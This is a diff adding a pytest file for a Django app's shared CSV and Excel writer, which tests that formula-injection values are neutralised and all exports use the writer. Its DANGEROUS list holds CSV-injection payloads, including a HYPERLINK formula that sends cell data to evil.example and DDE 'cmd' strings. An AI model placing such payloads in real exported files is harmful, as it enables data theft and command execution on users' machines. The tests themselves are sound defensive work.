@@ -1,0 +1,240 @@
+"""The shared CSV and Excel writer: no file Samtale hands out can carry a formula.
+
+Text a spreadsheet would run (=, +, -, @, tab or carriage return first) gets a
+leading apostrophe, as OWASP advises against CSV injection; everything else is
+written as given. A structural test keeps every future export on this writer.
+"""
+
+import ast
+import csv
+import io
+import zipfile
+from datetime import date, datetime
+from decimal import Decimal
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+import pytest
+from django.urls import reverse
+from openpyxl import load_workbook
+
+import samtale
+from samtale.core import spreadsheet
+from samtale.core.spreadsheet import csv_bytes, download, neutralise, xlsx_bytes
+from samtale.org.imports import people as people_import
+from samtale.org.imports import units as units_import
+from samtale.org.imports.reader import read_table
+
+DANGEROUS = [
+    "=1+1",
+    '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")',
+    "+47 12345678",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "\u00a0 +1",
+    "\n@SUM(A1)",
+]
+HARMLESS = ["Kari", "Bjørn Sæther Åsheim", "", "a=b", "E-post", "Team 1.–4. trinn", "#N/A"]
+NUMBERS_AND_DATES = [-5, -1.5, Decimal("-3.25"), 0, date(2026, 3, 2), datetime(2026, 3, 2, 9, 0)]
+
+
+def read_csv(content):
+    assert content.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
+
+
+def read_xlsx(content):
+    return [list(row) for row in load_workbook(io.BytesIO(content)).active.iter_rows()]
+
+
+def sheet_xml(content):
+    with zipfile.ZipFile(io.BytesIO(content)) as workbook:
+        return workbook.read("xl/worksheets/sheet1.xml").decode()
+
+
+# neutralise ------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(value):
+    assert neutralise(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", [*HARMLESS, *NUMBERS_AND_DATES, None, True])
+def test_other_values_are_left_as_they_are(value):
+    assert neutralise(value) is value
+
+
+# CSV -------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", DANGEROUS)
+def test_csv_neutralises_every_formula_prefix(value):
+    assert read_csv(csv_bytes([["Navn", "Notat"], ["Kari", value]])) == [
+        ["Navn", "Notat"],
+        ["Kari", "'" + value],
+    ]
+
+
+def test_csv_is_utf8_with_a_byte_order_mark_semicolons_and_crlf():
+    content = csv_bytes([["Navn", "Sted"], ["Kari", "Tromsø"]])
+    assert content == "\ufeffNavn;Sted\r\nKari;Tromsø\r\n".encode()
+
+
+def test_csv_writes_harmless_text_numbers_and_dates_unchanged():
+    rows = [HARMLESS, NUMBERS_AND_DATES, [None, "x"]]
+    assert read_csv(csv_bytes(rows)) == [
+        HARMLESS,
+        ["-5", "-1.5", "-3.25", "0", "2026-03-02", "2026-03-02 09:00:00"],
+        ["", "x"],
+    ]
+
+
+def test_csv_and_excel_show_a_time_as_it_was_in_norway():
+    moment = datetime(2026, 3, 2, 8, 0, tzinfo=ZoneInfo("UTC"))
+    assert read_csv(csv_bytes([[moment]])) == [["2026-03-02 09:00:00"]]
+    [[cell]] = read_xlsx(xlsx_bytes([[moment]], sheet_title="Tider"))
+    assert cell.value == datetime(2026, 3, 2, 9, 0)
+
+
+# Excel -----------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("value", [*DANGEROUS, "=", "=A1"])
+def test_excel_neutralises_every_formula_prefix_and_stores_text_not_a_formula(value):
+    content = xlsx_bytes([["Navn", "Notat"], ["Kari", value]], sheet_title="Ansatte")
+    [header, (name, note)] = read_xlsx(content)
+    # XML reads a carriage return back as a line feed.
+    assert note.value == ("'" + value).replace("\r", "\n")
+    assert note.data_type == "s"
+    assert "<f>" not in sheet_xml(content)
+
+
+def test_excel_keeps_numbers_dates_and_harmless_text_as_they_are():
+    content = xlsx_bytes([HARMLESS, NUMBERS_AND_DATES], sheet_title="Ansatte")
+    text, numbers = read_xlsx(content)
+    # An empty text cell reads back as an empty cell.
+    assert [c.value or "" for c in text] == HARMLESS
+    assert all(c.data_type == "s" for c in text if c.value)  # "#N/A" too: text, not an error
+    assert [c.value for c in numbers[:4]] == [-5, -1.5, -3.25, 0]
+    assert all(c.data_type == "n" for c in numbers[:4])
+    assert [c.value for c in numbers[4:6]] == [datetime(2026, 3, 2), datetime(2026, 3, 2, 9, 0)]
+    assert load_workbook(io.BytesIO(content)).sheetnames == ["Ansatte"]
+
+
+def test_excel_drops_characters_a_workbook_cannot_hold_before_neutralising():
+    [[cell]] = read_xlsx(xlsx_bytes([["\x01\x02=1+1"]], sheet_title="Ark"))
+    assert cell.value == "'=1+1"
+
+
+def test_a_sheet_title_is_made_one_excel_accepts():
+    content = xlsx_bytes([["x"]], sheet_title="Samtaler 2026/27: [Fjordvik skole og barnehage]")
+    title = "Samtaler 2026-27- -Fjordvik skole og barnehage-"[:31]
+    assert load_workbook(io.BytesIO(content)).sheetnames == [title]
+
+
+# Downloads -------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("filename", "content_type", "disposition"),
+    [
+        ("samtaler.csv", "text/csv; charset=utf-8", 'attachment; filename="samtaler.csv"'),
+        (
+            "Samtaler.XLSX",
+            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+            'attachment; filename="Samtaler.XLSX"',
+        ),
+        (
+            "tiltak-Tromsø.csv",
+            "text/csv; charset=utf-8",
+            "attachment; filename*=utf-8''tiltak-Troms%C3%B8.csv",
+        ),
+    ],
+)
+def test_a_download_is_an_attachment_with_its_file_type(filename, content_type, disposition):
+    response = download(b"data", filename=filename)
+    assert response.content == b"data"
+    assert response["Content-Type"] == content_type
+    assert response["Content-Disposition"] == disposition
+
+
+@pytest.mark.parametrize(
+    ("kind", "columns"), [("units", units_import.COLUMNS), ("people", people_import.COLUMNS)]
+)
+def test_the_import_template_download_reads_back_through_the_importer(client_for, kind, columns):
+    response = client_for("admin").get(reverse("import_template", args=[kind]))
+    assert response.status_code == 200
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == f'attachment; filename="samtale-{kind}.csv"'
+    table = read_table(filename=f"samtale-{kind}.csv", content=response.content)
+    assert table.header == [c.label for c in columns]
+    assert response.content == csv_bytes([table.header, *(cells for _n, cells in table.rows)])
+
+
+# Every file Samtale writes goes through the shared writer ---------------------
+
+CSV_WRITERS = {"writer", "DictWriter"}
+
+
+def spreadsheet_writers(source: str) -> list[str]:
+    """The places in `source` that write CSV or build an openpyxl workbook."""
+    found = []
+    for node in ast.walk(ast.parse(source)):
+        match node:
+            case ast.Attribute(value=ast.Name(id="csv"), attr=attr) if attr in CSV_WRITERS:
+                found.append(f"line {node.lineno}: csv.{attr}")
+            case ast.Attribute(attr="Workbook"):
+                found.append(f"line {node.lineno}: .Workbook")
+            case ast.ImportFrom(module=module, names=names) if module:
+                wanted = CSV_WRITERS if module == "csv" else set()
+                if module.split(".")[0] == "openpyxl":
+                    wanted = {"Workbook"}
+                for alias in names:
+                    if alias.name in wanted:
+                        found.append(f"line {node.lineno}: from {module} import {alias.name}")
+            case ast.Call(func=ast.Name(id="Workbook")):
+                found.append(f"line {node.lineno}: Workbook(")
+    return found
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import csv\ncsv.writer(out)",
+        "import csv\ncsv.DictWriter(out, ['a'])",
+        "from csv import writer",
+        "from csv import DictWriter as W",
+        "import openpyxl\nopenpyxl.Workbook()",
+        "from openpyxl import Workbook",
+        "from openpyxl.workbook import Workbook as W",
+        "Workbook(write_only=True)",
+    ],
+)
+def test_the_structural_check_sees_a_writer(source):
+    assert spreadsheet_writers(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    ["import csv\ncsv.reader(f)", "from openpyxl import load_workbook\nload_workbook(f)"],
+)
+def test_the_structural_check_lets_readers_be(source):
+    assert spreadsheet_writers(source) == []
+
+
+def test_no_module_but_the_shared_writer_writes_csv_or_builds_a_workbook():
+    root = Path(samtale.__file__).parent
+    shared = Path(spreadsheet.__file__)
+    modules = [p for p in root.rglob("*.py") if "tests" not in p.relative_to(root).parts]
+    assert shared in modules and root / "org" / "imports" / "templates.py" in modules
+    assert spreadsheet_writers(shared.read_text())  # the check does see the real writer
+    offenders = {
+        str(path.relative_to(root.parent)): found
+        for path in modules
+        if path != shared and (found := spreadsheet_writers(path.read_text()))
+    }
+    assert offenders == {}, "Write CSV and Excel files with samtale.core.spreadsheet."
